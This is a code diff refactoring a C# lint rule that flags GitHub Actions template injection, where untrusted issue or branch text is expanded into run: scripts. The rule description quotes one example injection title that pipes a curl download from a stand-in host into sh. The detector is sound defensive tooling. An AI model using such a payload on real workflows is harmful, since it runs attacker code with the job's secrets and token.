@@ -10,13 +10,16 @@ namespace ReleaseLint.Rules.Workflows;
 public sealed partial class RL1006TemplateInjection : WorkflowRule
 {
     /// <summary>The rule's metadata.</summary>
-    public static readonly RuleDescriptor Rule = new("RL1006", "template-injection",
+    public static readonly RuleDescriptor Definition = new("RL1006", "template-injection",
         "Untrusted text expanded into a script",
         "An attacker-controllable value (issue, pull request, comment and commit text, branch names such as github.head_ref, untyped inputs, or step, job and env values derived from them) expanded with ${{ }} inside a run: script or the script: of actions/github-script. GitHub pastes the value into the script before it runs, so a title like a\"; curl evil.sh | sh; \" runs as code with the job's secrets and token. Numbers, SHAs, ids, logins, step outcomes and ternaries of literals are known to be safe and are not reported.",
-        Severity.Error, RuleCategory.Workflows, ["workflows", "security", "injection"], securitySeverity: 8.8);
+        Severity.Error, RuleCategory.Workflows, ["workflows", "security", "injection"], securitySeverity: 8.8)
+    {
+        Reads = RuleInputs.Workflows | RuleInputs.Actions,
+    };
 
     /// <inheritdoc />
-    public override RuleDescriptor Descriptor => Rule;
+    public override RuleDescriptor Descriptor => Definition;
 
     /// <inheritdoc />
     protected override bool IncludesActions => true;
@@ -26,7 +29,7 @@ public sealed partial class RL1006TemplateInjection : WorkflowRule
     {
         foreach (var job in workflow.Jobs)
             foreach (var step in job.Steps)
-                CheckStep(context, workflow.Source, workflow.Root, step, ExpressionScope.ForWorkflow(workflow, job, step), $"job:{job.Id}/step:{step.StableLabel}", $"step {Quote(step)} of job '{job.Id}'", "workflow",
+                CheckStep(context, workflow.Source, workflow.Root, step, ExpressionScope.ForWorkflow(workflow, job, step), WorkflowPlace.Of(job, step), "workflow",
                     EffectiveShell(step, job, workflow), [workflow.Env, job.Env]);
     }
 
@@ -34,29 +37,28 @@ public sealed partial class RL1006TemplateInjection : WorkflowRule
     protected override void CheckAction(RuleContext context, ActionFile action)
     {
         foreach (var step in action.Steps)
-            CheckStep(context, action.Source, action.Root, step, ExpressionScope.ForAction(action, step), $"step:{step.StableLabel}", $"step {Quote(step)}", "action",
-                step.Shell, []);
+            CheckStep(context, action.Source, action.Root, step, ExpressionScope.ForAction(action, step), WorkflowPlace.Of(step), "action", step.Shell, []);
     }
-
-    private static string Quote(WorkflowStep step) => step.Id ?? (step.Name is { } n ? $"\"{n}\"" : step.Label);
 
     /// <summary>One reported expression, with the fix planned for it.</summary>
     private sealed record Problem(SourceLocation At, string Message, string Key, EnvFix? Fix);
 
-    private static void CheckStep(RuleContext context, SourceText source, YamlNode? root, WorkflowStep step, ExpressionScope scope, string place, string where, string callerKind,
+    private static void CheckStep(RuleContext context, SourceText source, YamlNode? root, WorkflowStep step, ExpressionScope scope, WorkflowPlace place, string callerKind,
         string? shell, IReadOnlyList<YamlMapping?> outerEnv)
     {
         var problems = new List<Problem>();
         var fixes = new EnvFixPlanner(source, root, step, outerEnv);
-        if (step.Run is { } run) Check(problems, fixes, source, run, scope, place, where, "run: script", shell: true, callerKind, IsPosixShell(shell));
+        if (step.Run is { } run) Check(problems, fixes, run, scope, place, "run: script", shell: true, callerKind, IsPosixShell(shell));
         if (step.UsesAction("actions/github-script") && step.WithInput("script") is { } script)
-            Check(problems, fixes, source, script, scope, place, where, "github-script script:", shell: false, callerKind, fixable: true);
+            Check(problems, fixes, script, scope, place, "github-script script:", shell: false, callerKind, fixable: true);
+        // Reported after the whole step is planned: each fix adds every variable of its safety in one shared edit.
         foreach (var problem in problems)
-            context.Report(problem.At, problem.Message, problem.Key, fixes: problem.Fix is { } fix ? fixes.Build(fix) : null);
+            context.At(problem.At).In(place).Key(problem.Key).Fix(problem.Fix is { } fix ? fixes.Build(fix) : null).Report(problem.Message);
     }
 
-    private static void Check(List<Problem> problems, EnvFixPlanner fixes, SourceText source, YamlScalar script, ExpressionScope scope, string place, string where, string what, bool shell, string callerKind, bool fixable)
+    private static void Check(List<Problem> problems, EnvFixPlanner fixes, YamlScalar script, ExpressionScope scope, WorkflowPlace place, string what, bool shell, string callerKind, bool fixable)
     {
+        var where = place.Describe();
         var expressions = ExpressionTemplate.Scan(script.Value);
         foreach (var expression in expressions)
         {
@@ -76,9 +78,9 @@ public sealed partial class RL1006TemplateInjection : WorkflowRule
                 ? $"pass it through an environment variable instead (env: {variable}: ${{{{ {inner} }}}}) and use \"${variable}\""
                 : $"pass it through an environment variable instead (env: {variable}: ${{{{ {inner} }}}}) and read process.env.{variable}";
             var plan = fixable ? fixes.Plan(script, expression, expressions, isEnv ? envPath!["env.".Length..] : variable, isEnv, shell) : null;
-            problems.Add(new Problem(expression.Locate(script, source),
+            problems.Add(new Problem(expression.Locate(script),
                 $"'{written}' in the {what} of {where} expands {origin} into the {(shell ? "shell script" : "JavaScript")} before it runs; {advice}",
-                $"{place}|{written}", plan));
+                written, plan));
         }
     }
 
